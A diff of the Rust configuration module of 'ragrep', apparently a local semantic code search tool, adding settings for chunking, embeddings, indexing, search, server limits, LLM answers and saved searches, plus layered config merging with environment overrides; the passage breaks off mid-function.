@@ -1,8 +1,13 @@
-use anyhow::{Context as AnyhowContext, Result};
+use anyhow::{anyhow, bail, Context as AnyhowContext, Result};
+use log::warn;
 use serde::{Deserialize, Serialize};
+use std::collections::{BTreeMap, BTreeSet, HashMap};
 use std::fs;
+use std::os::unix::fs::DirBuilderExt;
 use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
 
+use crate::config_files;
 use crate::constants::constants;
 
 #[derive(Debug, Serialize, Deserialize, Clone)]
@@ -11,12 +16,41 @@ pub struct Config {
     pub reranker: Option<RerankerConfig>,
     #[serde(default)]
     pub git_watch: GitWatchConfig,
+    #[serde(default)]
+    pub chunking: ChunkingConfig,
+    #[serde(default)]
+    pub server: ServerConfig,
+    #[serde(default)]
+    pub embedding: EmbeddingConfig,
+    #[serde(default)]
+    pub search: SearchConfig,
+    #[serde(default)]
+    pub index: IndexConfig,
+    #[serde(default)]
+    pub editor: EditorConfig,
+    #[serde(default)]
+    pub output: OutputConfig,
+    #[serde(default)]
+    pub categories: CategoriesConfig,
+    #[serde(default)]
+    pub llm: LlmConfig,
+    /// Saved searches, run with `ragrep @name`
+    #[serde(default)]
+    pub aliases: BTreeMap<String, SearchAlias>,
+    /// External chunkers by file pattern (gitignore syntax), e.g. `[chunkers."*.proto"]`
+    #[serde(default)]
+    pub chunkers: BTreeMap<String, ChunkerPluginConfig>,
 }
 
 #[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(default)]
 pub struct GitWatchConfig {
     pub enabled: bool,
     pub debounce_ms: u64,
+    /// How changes are noticed; the native backend falls back to polling if it can't start
+    pub backend: WatchBackend,
+    /// Time between two scans of the tree with the polling backend
+    pub poll_interval_ms: u64,
 }
 
 impl Default for GitWatchConfig {
@@ -24,16 +58,439 @@ impl Default for GitWatchConfig {
         Self {
             enabled: true,
             debounce_ms: 500, // 0.5 second default
+            backend: WatchBackend::default(),
+            poll_interval_ms: 2000,
+        }
+    }
+}
+
+/// How the file watcher notices changes
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum WatchBackend {
+    /// The platform's change notifications (inotify, FSEvents, ReadDirectoryChangesW)
+    #[default]
+    Native,
+    /// Rescan the tree every `poll_interval_ms`, for filesystems that send no notifications
+    /// (NFS, SSHFS, some container mounts)
+    Poll,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(default)]
+pub struct ChunkingConfig {
+    /// Maximum estimated tokens per chunk before it is split into parts
+    pub max_tokens: usize,
+    /// Percentage of `max_tokens` repeated between consecutive parts
+    pub overlap_percentage: usize,
+    /// Add a `file_summary` chunk per source file (header, imports and definitions) for
+    /// coarse "where is X handled" queries
+    pub file_summaries: bool,
+    /// Also chunk code embedded in other code: SQL in string literals, fenced blocks in
+    /// markdown and scripts in HTML, tagged with the embedded language
+    pub injections: bool,
+    /// Add chunks for free-standing comments and for TODO/FIXME/HACK/XXX comments, searched
+    /// with `--comments` and listed by `ragrep todos`
+    pub comments: bool,
+    /// Leave license and copyright headers at the top of files out of embeddings
+    pub strip_license_headers: bool,
+    /// Collapse runs of whitespace and blank lines in the text that is embedded (results
+    /// still show the code as written)
+    pub collapse_whitespace: bool,
+    /// Skip files whose first lines mark them as generated (`@generated`, `DO NOT EDIT`)
+    /// and minified files (a long average line length)
+    pub skip_generated: bool,
+    /// Lines of the surrounding code embedded with each chunk (results still show only the
+    /// chunk's own lines)
+    pub neighbor_context_lines: usize,
+    /// Mask API keys, tokens, passwords and private keys before chunks are stored or
+    /// embedded
+    pub redact_secrets: bool,
+    /// Regexes for further secrets to mask, next to the built-in token formats; a `secret`
+    /// group masks only that part of a match
+    pub secret_patterns: Vec<String>,
+}
+
+impl Default for ChunkingConfig {
+    fn default() -> Self {
+        Self {
+            max_tokens: 512, // mxbai-embed-large-v1 truncates input past 512 tokens
+            overlap_percentage: 15,
+            file_summaries: true,
+            injections: true,
+            comments: true,
+            strip_license_headers: true,
+            collapse_whitespace: true,
+            skip_generated: true,
+            neighbor_context_lines: 0,
+            redact_secrets: true,
+            secret_patterns: Vec::new(),
         }
     }
 }
 
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(default)]
+pub struct EmbeddingConfig {
+    /// Use the int8-quantized embedding model (less memory, faster on CPU)
+    pub quantized: bool,
+    /// Keep only the first this many dimensions of each embedding (Matryoshka truncation),
+    /// renormalized; a multiple of 8 up to the model's 1024
+    pub dimensions: Option<usize>,
+    /// Threads the embedding model runs on; `None` uses [`default_inference_threads`]
+    pub threads: Option<usize>,
+    /// Instruction put in front of every chunk embedded, e.g. a hint about the domain;
+    /// changing it needs a full reindex
+    pub document_prefix: String,
+    /// Instruction put in front of every query embedded
+    pub query_prefix: String,
+}
+
+/// Threads each model runs on unless configured: a quarter of the available cores, so the
+/// embedding and reranking models together take half and leave the rest to whatever else
+/// runs on the machine
+pub fn default_inference_threads() -> usize {
+    std::thread::available_parallelism()
+        .map(|cores| cores.get() / 4)
+        .unwrap_or(1)
+        .max(1)
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(default)]
+pub struct IndexConfig {
+    /// File extensions (without the dot) to index and watch
+    pub extensions: Vec<String>,
+    /// Directory names skipped anywhere in the tree, in addition to ignore files
+    pub exclude_dirs: Vec<String>,
+    /// File name endings of generated and minified files, which are not indexed
+    pub generated_files: Vec<String>,
+    /// Keep a separate index profile per git branch (`.ragrep/indexes/<branch>.db`)
+    pub per_branch: bool,
+    /// Also index configuration and infrastructure files (YAML, TOML, Dockerfiles,
+    /// Terraform), chunked by top-level key, table, stage or block
+    pub include_config_files: bool,
+    /// Record the author and date of the last commit to touch each chunk (git blame) for
+    /// `--author` and `--since`; slows indexing down
+    pub blame: bool,
+    /// Index and watch the working trees of git submodules (and of any other repository
+    /// nested in the project)
+    pub submodules: bool,
+    /// Largest the index may grow, in megabytes; files are evicted beyond it
+    pub max_size_mb: Option<u64>,
+    /// Which files are evicted first when the index outgrows `max_size_mb`
+    pub eviction: EvictionPolicy,
+    /// Precision vectors are stored with; smaller vectors make a smaller, faster index at
+    /// some cost in recall
+    pub vector_storage: VectorStorage,
+}
+
+/// How the index stores embedding vectors
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum VectorStorage {
+    /// 32-bit floats, as the model produces them
+    #[default]
+    Float32,
+    /// One signed byte per dimension, 4x smaller
+    Int8,
+    /// One bit per dimension (its sign), 32x smaller
+    Binary,
+}
+
+impl VectorStorage {
+    /// Name of the storage as written in the config
+    pub fn name(&self) -> &'static str {
+        match self {
+            VectorStorage::Float32 => "float32",
+            VectorStorage::Int8 => "int8",
+            VectorStorage::Binary => "binary",
+        }
+    }
+}
+
+/// Order in which files are dropped from an index that outgrew `index.max_size_mb`
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq, Default)]
+#[serde(rename_all = "snake_case")]
+pub enum EvictionPolicy {
+    /// Files whose chunks were least recently in search results (never first)
+    #[default]
+    LeastRecentlyMatched,
+    /// Files least recently modified
+    OldestModified,
+}
+
+impl EvictionPolicy {
+    /// Name of the policy as written in the config
+    pub fn name(&self) -> &'static str {
+        match self {
+            EvictionPolicy::LeastRecentlyMatched => "least_recently_matched",
+            EvictionPolicy::OldestModified => "oldest_modified",
+        }
+    }
+}
+
+impl Default for IndexConfig {
+    fn default() -> Self {
+        Self {
+            extensions: constants::DEFAULT_FILE_EXTENSIONS
+                .iter()
+                .map(|ext| ext.to_string())
+                .collect(),
+            exclude_dirs: constants::IGNORED_DIRECTORIES
+                .iter()
+                .map(|dir| dir.to_string())
+                .collect(),
+            generated_files: constants::GENERATED_FILE_SUFFIXES
+                .iter()
+                .map(|suffix| suffix.to_string())
+                .collect(),
+            per_branch: false,
+            include_config_files: false,
+            blame: false,
+            submodules: true,
+            max_size_mb: None,
+            eviction: EvictionPolicy::default(),
+            vector_storage: VectorStorage::default(),
+        }
+    }
+}
+
+impl IndexConfig {
+    /// Whether a file is indexed: its extension is listed (`mk` for Makefiles), or it is a
+    /// configuration file and `include_config_files` is set, and its name doesn't mark it
+    /// as generated
+    pub fn includes_file(&self, path: &Path) -> bool {
+        let listed = config_files::listed_extension(path)
+            .map(|ext| self.extensions.iter().any(|valid_ext| valid_ext == ext))
+            .unwrap_or(false);
+        (listed || (self.include_config_files && config_files::format_for(path).is_some()))
+            && !self.is_generated_file(path)
+    }
+
+    /// Whether a file's name ends with one of `generated_files`
+    pub fn is_generated_file(&self, path: &Path) -> bool {
+        let name = path.file_name().unwrap_or_default().to_string_lossy();
+        self.generated_files
+            .iter()
+            .any(|suffix| name.ends_with(suffix.as_str()))
+    }
+
+    pub fn is_excluded_dir(&self, name: &str) -> bool {
+        self.exclude_dirs.iter().any(|dir| dir == name)
+    }
+}
+
+/// Gitignore-style path patterns behind `--no-tests`, `--no-vendor` and `--only-src`
+///
+/// Chunks are tagged at index time, so changing these requires `ragrep index --full`.
+#[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(default)]
+pub struct CategoriesConfig {
+    pub tests: Vec<String>,
+    pub vendor: Vec<String>,
+}
+
+impl Default for CategoriesConfig {
+    fn default() -> Self {
+        Self {
+            tests: constants::DEFAULT_TEST_PATTERNS
+                .iter()
+                .map(|pattern| pattern.to_string())
+                .collect(),
+            vendor: constants::DEFAULT_VENDOR_PATTERNS
+                .iter()
+                .map(|pattern| pattern.to_string())
+                .collect(),
+        }
+    }
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(default)]
+pub struct SearchConfig {
+    /// Serve queries from an approximate nearest neighbor index built at server startup
+    pub ann: bool,
+    /// Number of ANN clusters scanned per query; higher improves recall at some latency
+    pub ann_probes: usize,
+    /// Score added to results from a file modified just before it was indexed, decaying
+    /// with the file's age; 0 disables the boost
+    pub recency_boost: f32,
+    /// Age in days at which a file's recency boost has halved
+    pub recency_half_life_days: f32,
+    /// Score added to results in the language a query's syntax points to (`def `, `impl `,
+    /// `=>`); 0 disables the boost
+    pub language_boost: f32,
+    /// Also search with a hypothetical code snippet the `[llm]` model writes for the query
+    /// (HyDE); improves recall for vague questions at the cost of an LLM call per query
+    pub hyde: bool,
+    /// Score multipliers by path pattern (gitignore syntax), e.g. `"examples/" = 0.5`
+    pub weights: BTreeMap<String, f32>,
+    /// Document the reranker scores for each candidate, with `{file_path}`, `{symbol}`,
+    /// `{kind}` and `{text}` placeholders; `"{text}"` reranks the code alone
+    pub rerank_template: String,
+    /// Candidates fetched by the vector search and reranked; the best `top_n` of them are
+    /// returned, so a deeper pool lets the reranker find results the embedding ranked low
+    pub rerank_depth: usize,
+    /// Search in two stages: pick the files whose summaries (`chunking.file_summaries`)
+    /// are closest to the query, then search only their chunks; for very large indexes
+    pub two_stage: bool,
+    /// Files picked by the first stage of a two-stage search
+    pub two_stage_files: usize,
+    /// Chunks an index needs before `two_stage` takes effect; smaller indexes are searched
+    /// in one stage
+    pub two_stage_min_chunks: usize,
+}
+
+/// Rerank document naming the chunk's file and symbol above its code
+pub const DEFAULT_RERANK_TEMPLATE: &str = "{file_path} :: {symbol}\n{text}";
+
+impl Default for SearchConfig {
+    fn default() -> Self {
+        Self {
+            ann: false,
+            ann_probes: 16,
+            recency_boost: 0.0,
+            recency_half_life_days: 30.0,
+            language_boost: 0.5,
+            hyde: false,
+            weights: BTreeMap::new(),
+            rerank_template: DEFAULT_RERANK_TEMPLATE.to_string(),
+            rerank_depth: 50,
+            two_stage: false,
+            two_stage_files: 100,
+            two_stage_min_chunks: 100_000,
+        }
+    }
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(default)]
+pub struct ServerConfig {
+    /// Unload the models after this many minutes without queries; reloaded on the next query
+    pub idle_unload_minutes: Option<u64>,
+    /// Let clients running with the socket's group connect too (the socket, PID file and
+    /// data directory become group-accessible); otherwise only the server's own user may
+    pub allow_group: bool,
+    /// Check each index for chunks and vectors orphaned by a crash when the server opens
+    /// it, and repair them (`ragrep doctor --fix`)
+    pub verify_index: bool,
+    /// Searches run at once across all clients; further ones are refused as busy
+    pub max_concurrent_searches: Option<usize>,
+    /// Queries one connection may send per minute (a batch counts each of its queries);
+    /// further ones are refused as busy
+    pub max_queries_per_minute: Option<u32>,
+    /// Run the models in worker processes, restarted when they crash, so a model failure
+    /// (a corrupt model file, running out of memory) can't take the server down
+    pub model_worker: bool,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(default)]
+pub struct EditorConfig {
+    /// Command used by `--open`, with `{file}` and `{line}` placeholders; defaults to `$EDITOR`
+    pub command: Option<String>,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default)]
+#[serde(default)]
+pub struct OutputConfig {
+    /// Line printed per search result instead of its code, with `{file}`, `{start}`, `{end}`,
+    /// `{score}`, `{kind}`, `{name}`, `{id}` and `{text}` placeholders
+    pub template: Option<String>,
+    /// Shell command run after each search with the response as JSON on stdin; only read
+    /// from the global config
+    pub hook: Option<String>,
+}
+
+/// API spoken by the LLM endpoint used by `ragrep ask`
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq, Eq)]
+#[serde(rename_all = "lowercase")]
+pub enum LlmProvider {
+    /// Ollama's `/api/chat`
+    Ollama,
+    /// Any OpenAI-compatible `/chat/completions` API (OpenAI, llama.cpp, vLLM, LM Studio, ...)
+    OpenAi,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone)]
+#[serde(default)]
+pub struct LlmConfig {
+    pub provider: LlmProvider,
+    /// Base URL of the API; defaults to a local Ollama or to api.openai.com
+    pub url: Option<String>,
+    pub model: String,
+    /// Environment variable holding the API key sent to OpenAI-compatible endpoints
+    pub api_key_env: String,
+    /// Number of retrieved chunks included in the prompt
+    pub context_chunks: usize,
+}
+
+impl Default for LlmConfig {
+    fn default() -> Self {
+        Self {
+            provider: LlmProvider::Ollama,
+            url: None,
+            model: "llama3.1".to_string(),
+            api_key_env: "OPENAI_API_KEY".to_string(),
+            context_chunks: 8,
+        }
+    }
+}
+
+impl LlmConfig {
+    pub fn base_url(&self) -> &str {
+        match (&self.url, self.provider) {
+            (Some(url), _) => url.trim_end_matches('/'),
+            (None, LlmProvider::Ollama) => "http://localhost:11434",
+            (None, LlmProvider::OpenAi) => "https://api.openai.com/v1",
+        }
+    }
+}
+
+/// An entry of `[aliases]`: just a query, or a query with preset filters
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+#[serde(untagged)]
+pub enum SearchAlias {
+    Query(String),
+    Search(SavedSearch),
+}
+
+/// A query with the filters it is always run with
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq, Default)]
+#[serde(default)]
+pub struct SavedSearch {
+    pub query: String,
+    /// Only files under these directories or matching these globs, relative to the project
+    /// root
+    pub paths: Vec<String>,
+    /// Only chunks of these kinds ("function", "class", "todo", ...)
+    pub kinds: Vec<String>,
+    /// Only chunks of these languages, like `--lang`
+    pub languages: Vec<String>,
+    /// Number of results, unless `-n` is given
+    pub top: Option<usize>,
+}
+
+/// An entry of `[chunkers]`: a command chunking the files of its pattern (see
+/// [`crate::plugins`])
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq)]
+pub struct ChunkerPluginConfig {
+    /// Shell command given a file's content on stdin and its path as `$1`, printing the
+    /// file's chunks as JSON
+    pub command: String,
+}
+
 #[derive(Debug, Serialize, Deserialize, Clone)]
 pub struct RerankerConfig {
     /// Use external reranker service (mxbai-rerank-v2) instead of local JINA reranker
+    #[serde(default)]
     pub use_external_service: bool,
     /// URL of the external reranker service (e.g., "http://localhost:8080")
     pub service_url: Option<String>,
+    /// Threads the local reranking model runs on; `None` uses [`default_inference_threads`]
+    #[serde(default)]
+    pub threads: Option<usize>,
 }
 
 impl Default for Config {
@@ -42,14 +499,53 @@ impl Default for Config {
             model_cache_dir: None,
             reranker: None,
             git_watch: GitWatchConfig::default(),
+            chunking: ChunkingConfig::default(),
+            server: ServerConfig::default(),
+            embedding: EmbeddingConfig::default(),
+            search: SearchConfig::default(),
+            index: IndexConfig::default(),
+            editor: EditorConfig::default(),
+            output: OutputConfig::default(),
+            categories: CategoriesConfig::default(),
+            llm: LlmConfig::default(),
+            aliases: BTreeMap::new(),
+            chunkers: BTreeMap::new(),
+        }
+    }
+}
+
+impl Config {
+    /// The saved search named `name` (without the `@`)
+    pub fn alias(&self, name: &str) -> Result<SavedSearch> {
+        match self.aliases.get(name) {
+            Some(SearchAlias::Query(query)) => Ok(SavedSearch {
+                query: query.clone(),
+                ..SavedSearch::default()
+            }),
+            Some(SearchAlias::Search(search)) if search.query.trim().is_empty() => {
+                bail!("Alias '@{}' has no query", name)
+            }
+            Some(SearchAlias::Search(search)) => Ok(search.clone()),
+            None if self.aliases.is_empty() => {
+                bail!("Unknown alias '@{}'; define it under [aliases]", name)
+            }
+            None => bail!(
+                "Unknown alias '@{}' (known: {})",
+                name,
+                self.aliases
+                    .keys()
+                    .map(|name| format!("@{}", name))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            ),
         }
     }
 }
 
 pub struct ConfigManager {
-    global_config: Config,
-    local_config: Option<Config>,
     merged_config: Config,
+    /// Layer that last set each key, by dotted key path
+    origins: BTreeMap<String, ConfigOrigin>,
     pub global_config_path: PathBuf,
     pub local_config_path: Option<PathBuf>,
 }
@@ -64,105 +560,823 @@ const DEFAULT_CONFIG: &str = r#"# ragrep configuration file
 # [reranker]
 # use_external_service = true
 # service_url = "http://localhost:8080"
+# Threads the local reranking model runs on (default: a quarter of the CPU cores)
+# threads = 4
 
 # Optional: Configure git-based auto-reindexing
 # [git_watch]
 # enabled = true
 # debounce_ms = 1000
+# Rescan the tree instead of relying on change notifications, which never arrive on
+# network filesystems (NFS, SSHFS) and some container mounts
+# backend = "poll"
+# poll_interval_ms = 2000
+
+# Optional: Choose which files are indexed. Both lists replace the defaults.
+# Extensions without a tree-sitter grammar are split into plain line-based chunks.
+# [index]
+# extensions = ["rs", "py", "js", "ts", "rb", "php", "cs", "swift", "m", "h", "sh", "mk", "ipynb", "vue", "svelte", "sql"]
+# exclude_dirs = ["node_modules", "target", ".git", "__pycache__", ".next", "dist", "build"]
+# Endings of generated file names that are never indexed (set to [] to index them)
+# generated_files = [".min.js", "-min.js", "_pb2.py", "_pb2_grpc.py", "_pb.js", "_grpc_pb.js", "_pb.d.ts"]
+# Keep one index per git branch under .ragrep/indexes/ so switching branches doesn't thrash
+# per_branch = true
+# Also index YAML, TOML, Dockerfiles and Terraform, chunked by top-level key, table, stage or
+# block
+# include_config_files = true
+# Record who last changed each chunk and when (git blame), for --author and --since
+# blame = true
+# Leave out the working trees of git submodules and other nested repositories
+# submodules = false
+# Cap the index at 2 GB, evicting files once it grows past that: those least recently in
+# search results ("least_recently_matched") or least recently modified ("oldest_modified")
+# max_size_mb = 2048
+# eviction = "least_recently_matched"
+# Store vectors as int8 (4x smaller) or binary (32x smaller) instead of float32, at some
+# cost in ranking precision. Takes effect on `ragrep index --full`.
+# vector_storage = "int8"
+
+# Optional: Configure how large code blocks are split before embedding
+# [chunking]
+# max_tokens = 512
+# overlap_percentage = 15
+# file_summaries = true
+# Chunk SQL in string literals, markdown code fences and HTML scripts (add "md" or "html"
+# to extensions) as their own language
+# injections = true
+# Chunk free-standing and TODO comments for `--comments` and `ragrep todos`
+# comments = true
+# Leave license headers out of embeddings, collapse whitespace in embedded text and skip
+# generated (`@generated`, `DO NOT EDIT`) and minified files. Changing these needs
+# `ragrep index --full`
+# strip_license_headers = true
+# collapse_whitespace = true
+# skip_generated = true
+# Embed this many lines of the code around each chunk with it, for small helpers that only
+# make sense next to their neighbors; also needs `ragrep index --full`
+# neighbor_context_lines = 5
+# Mask API keys, tokens, passwords and private keys (common formats) before chunks are
+# stored or embedded, plus anything matching these regexes (a `secret` group masks only
+# that part); indexing reports how many were masked
+# redact_secrets = true
+# secret_patterns = ["acme_[0-9a-f]{32}"]
+
+# Optional: Use the quantized embedding model (less memory, faster on CPU).
+# Changing this requires a full reindex (ragrep index --full)
+# [embedding]
+# quantized = true
+# Optional: Keep only the first 512 (or 256, ...) of the model's 1024 embedding dimensions
+# for a smaller, faster index at some cost in recall; also needs a full reindex
+# dimensions = 512
+# Threads the model runs on (default: a quarter of the CPU cores, as for the reranker);
+# lower it on shared machines
+# threads = 4
+# Optional: Instructions put in front of each chunk and each query before embedding them,
+# e.g. a hint about the codebase; changing document_prefix needs ragrep index --full
+# document_prefix = "Firmware C code for a drone flight controller:"
+# query_prefix = "Represent this sentence for searching relevant passages:"
+
+# Optional: Use an approximate nearest neighbor index in the server (large indexes)
+# [search]
+# ann = true
+# ann_probes = 16
+# Favor recently modified files (added to the reranker score, halving every 30 days of age)
+# recency_boost = 0.5
+# recency_half_life_days = 30
+# Favor results in the language a query's syntax points to (`def `, `impl `, `=>`); 0 disables
+# language_boost = 0.5
+# Expand each query with a code snippet written by the [llm] model (slower, better recall)
+# hyde = true
+# What the reranker reads for each candidate; the path and symbol name tell apart identical
+# helpers in different modules ({file_path}, {symbol}, {kind} and {text} are substituted)
+# rerank_template = "{file_path} :: {symbol}\n{text}"
+# Vector search candidates reranked per query (more finds more, reranking takes longer)
+# rerank_depth = 50
+# On indexes of two_stage_min_chunks or more chunks, first pick the 100 files whose summaries
+# match the query best, then search only their chunks and those of files without summaries
+# (text, markdown, config files; needs chunking.file_summaries)
+# two_stage = true
+# two_stage_files = 100
+# two_stage_min_chunks = 100000
+
+# Optional: Rank some paths above or below the rest (score multipliers, gitignore syntax)
+# [search.weights]
+# "src/core/**" = 1.5
+# "examples/" = 0.5
+
+# Optional: Free model memory when the server has been idle
+# [server]
+# idle_unload_minutes = 30
+# allow_group = true   # let the socket's group connect, not just your user
+# verify_index = true  # repair chunks and vectors left orphaned by a crash at startup
+# max_concurrent_searches = 4  # refuse further searches as busy until one finishes
+# max_queries_per_minute = 120 # per connection, so one runaway client can't starve the rest
+# Run the models in child processes, restarted if they crash (bad model file, out of memory)
+# model_worker = true
+
+# Optional: Editor launched by `--open` ({file} and {line} are substituted; defaults to $EDITOR)
+# [editor]
+# command = "code -g {file}:{line}"
+
+# Optional: One line per search result instead of its code ({file}, {start}, {end},
+# {score}, {kind}, {name}, {id} and {text} are substituted), and a command run after each
+# search with the results as JSON on stdin, in the project root (global config only)
+# [output]
+# template = "{file}:{start}:{score}"
+# hook = "jq -r '.results[].file_path' >> ~/.ragrep-history"
+
+# Optional: Paths counted as tests and vendored code by --no-tests, --no-vendor and
+# --only-src (gitignore syntax; each list replaces its default). Requires ragrep index --full
+# [categories]
+# tests = ["tests/", "test/", "__tests__/", "*_test.*", "test_*.py", "*.test.*", "*.spec.*"]
+# vendor = ["vendor/", "third_party/", "node_modules/"]
+
+# Optional: Model answering `ragrep ask` ("ollama" or any "openai"-compatible API)
+# [llm]
+# provider = "openai"
+# url = "http://localhost:8080/v1"
+# model = "gpt-4o-mini"
+# api_key_env = "OPENAI_API_KEY"
+# context_chunks = 8
+
+# Optional: Saved searches, run with `ragrep @auth` (a query, or a query with filters)
+# [aliases]
+# auth = "authentication and session handling"
+# migrations = { query = "schema migration", paths = ["db/"], kinds = ["function"], top = 5 }
+
+# Optional, global config only: Chunk files of a pattern (relative to the project root) with
+# your own command (add their extension to index.extensions). It reads the file on stdin, gets its path as $1 and prints
+# [{"start_line": 1, "end_line": 9, "kind": "message", "name": "User"}, ...]
+# [chunkers."*.proto"]
+# command = "proto-chunker"
 "#;
 
+/// Per-user data directory shared by all projects (models, global server socket)
+pub fn global_data_dir() -> Result<PathBuf> {
+    let data_dir = dirs::data_dir().context("Could not find data directory")?;
+    Ok(data_dir.join(constants::GLOBAL_CONFIG_DIR_NAME))
+}
+
+/// Path of the per-user config file shared by all projects
+pub fn global_config_path() -> Result<PathBuf> {
+    let global_config_dir = dirs::config_dir()
+        .context("Could not find config directory")?
+        .join(constants::GLOBAL_CONFIG_DIR_NAME);
+    Ok(global_config_dir.join(constants::CONFIG_FILENAME))
+}
+
+/// Locations given on the command line instead of the defaults, e.g. in a container where
+/// `.ragrep` sits on a bind mount
+#[derive(Debug, Clone, Default)]
+pub struct PathOverrides {
+    /// Holds the index, socket and PID file instead of the project's `.ragrep`
+    pub data_dir: Option<PathBuf>,
+    /// Socket the server listens on and clients connect to
+    pub socket_path: Option<PathBuf>,
+}
+
+static PATH_OVERRIDES: OnceLock<PathOverrides> = OnceLock::new();
+
+/// Apply `--data-dir` and `--socket-path` for the rest of the process
+pub fn set_path_overrides(overrides: PathOverrides) {
+    let _ = PATH_OVERRIDES.set(overrides);
+}
+
+/// Directory holding a project's index, server socket and PID file: `--data-dir` if given,
+/// `.ragrep` in the project otherwise
+pub fn project_data_dir(workspace_path: &Path) -> PathBuf {
+    data_dir_override().unwrap_or_else(|| workspace_path.join(constants::RAGREP_DIR_NAME))
+}
+
+/// Directory given with `--data-dir`
+pub fn data_dir_override() -> Option<PathBuf> {
+    PATH_OVERRIDES
+        .get()
+        .and_then(|overrides| overrides.data_dir.clone())
+}
+
+/// Socket given with `--socket-path`, replacing the per-project and global socket
+pub fn socket_path_override() -> Option<PathBuf> {
+    PATH_OVERRIDES
+        .get()
+        .and_then(|overrides| overrides.socket_path.clone())
+}
+
+/// Create `dir` and its missing parents accessible to the owner only, as it holds the
+/// server socket
+///
+/// Existing directories keep their permissions, so a bind mount shared with other users
+/// works as long as it is writable.
+pub fn create_private_dir(dir: &Path) -> Result<()> {
+    fs::DirBuilder::new()
+        .recursive(true)
+        .mode(0o700)
+        .create(dir)
+        .with_context(|| format!("Failed to create {}", dir.display()))
+}
+
+/// Path of the project config file under `.ragrep`
+pub fn local_config_path(workspace_path: &Path) -> PathBuf {
+    workspace_path
+        .join(constants::RAGREP_DIR_NAME)
+        .join(constants::CONFIG_FILENAME)
+}
+
+/// Parse a config file; TOML errors include the line and column of the problem
+pub fn load_config_file(path: &Path) -> Result<Config> {
+    let content = fs::read_to_string(path)
+        .with_context(|| format!("Failed to read config file: {}", path.display()))?;
+    toml::from_str(&content).map_err(|e| anyhow!("Invalid config file {}:\n{}", path.display(), e))
+}
+
+/// Where an effective config value came from
+#[derive(Debug, Clone, PartialEq)]
+pub enum ConfigOrigin {
+    Default,
+    Global,
+    Local,
+    Env(String),
+}
+
+impl std::fmt::Display for ConfigOrigin {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            ConfigOrigin::Default => write!(f, "default"),
+            ConfigOrigin::Global => write!(f, "global config"),
+            ConfigOrigin::Local => write!(f, "local config"),
+            ConfigOrigin::Env(name) => write!(f, "env {}", name),
+        }
+    }
+}
+
+/// Keys without a default value, which therefore don't appear in `Config::default()`
+const OPTIONAL_KEYS: &[&str] = &[
+    "model_cache_dir",
+    "index.max_size_mb",
+    "embedding.dimensions",
+    "embedding.threads",
+    "reranker.threads",
+    "reranker.use_external_service",
+    "reranker.service_url",
+    "server.idle_unload_minutes",
+    "server.max_concurrent_searches",
+    "server.max_queries_per_minute",
+    "editor.command",
+    "output.template",
+    "output.hook",
+    "llm.url",
+];
+
+/// Keys that run commands, only read from the global config: a project's config is
+/// committed with the repository, and cloning one mustn't be enough to run its commands
+const USER_ONLY_KEYS: &[&str] = &["chunkers", "output.hook"];
+
+/// Prefix of environment variables that override config keys
+const ENV_PREFIX: &str = "RAGREP_";
+
+/// Environment variables with the config prefix that set command-line options instead
+const NON_CONFIG_ENV_VARS: &[&str] = &["RAGREP_DATA_DIR", "RAGREP_SOCKET_PATH"];
+
+/// Environment variable overriding a dotted key path, e.g. `git_watch.enabled` ->
+/// `RAGREP_GIT_WATCH_ENABLED`
+pub fn env_var_name(key: &str) -> String {
+    format!("{}{}", ENV_PREFIX, key.replace('.', "_").to_uppercase())
+}
+
+/// Raw config tables merged key by key: defaults < global file < local file < environment
+struct ConfigLayers {
+    table: toml::Table,
+    origins: BTreeMap<String, ConfigOrigin>,
+}
+
+impl ConfigLayers {
+    fn new() -> Result<Self> {
+        let table = match toml::Value::try_from(Config::default())? {
+            toml::Value::Table(table) => table,
+            _ => toml::Table::new(),
+        };
+        Ok(Self {
+            table,
+            origins: BTreeMap::new(),
+        })
+    }
+
+    /// Merge a config file, skipping it (with a warning) if it doesn't parse
+    fn apply_file(&mut self, path: &Path, origin: ConfigOrigin) -> Result<()> {
+        if let Err(e) = load_config_file(path) {
+            warn!("{}", e);
+            warn!("Ignoring this config file; run `ragrep config check` for details");
+            return Ok(());
+        }
+
+        let content = fs::read_to_string(path)?;
+        let mut layer: toml::Table = toml::from_str(&content)?;
+        if origin == ConfigOrigin::Local {
+            for key in USER_ONLY_KEYS {
+                if remove_key(&mut layer, key).is_some() {
+                    warn!(
+                        "Ignoring {} in {}: it runs commands, so it is only read from the \
+                         global config ({})",
+                        key,
+                        path.display(),
+                        global_config_path()
+                            .map(|path| path.display().to_string())
+                            .unwrap_or_default()
+                    );
+                }
+            }
+        }
+        self.merge(layer, &origin);
+        Ok(())
+    }
+
+    /// Merge every `RAGREP_*` variable of `env` that names a known config key, returning
+    /// the names of those that don't
+    fn apply_env(&mut self, env: impl IntoIterator<Item = (String, String)>) -> Vec<String> {
+        let mut env: HashMap<String, String> = env
+            .into_iter()
+            .filter(|(name, _)| name.starts_with(ENV_PREFIX))
+            .collect();
+        let mut keys = Vec::new();
+        flatten_table(&self.table, "", &mut |key, _| keys.push(key.clone()));
+        keys.extend(OPTIONAL_KEYS.iter().map(|key| key.to_string()));
+
+        for key in keys {
+            let name = env_var_name(&key);
+            if let Some(raw) = env.remove(&name) {
+                let value = match self.get(&key) {
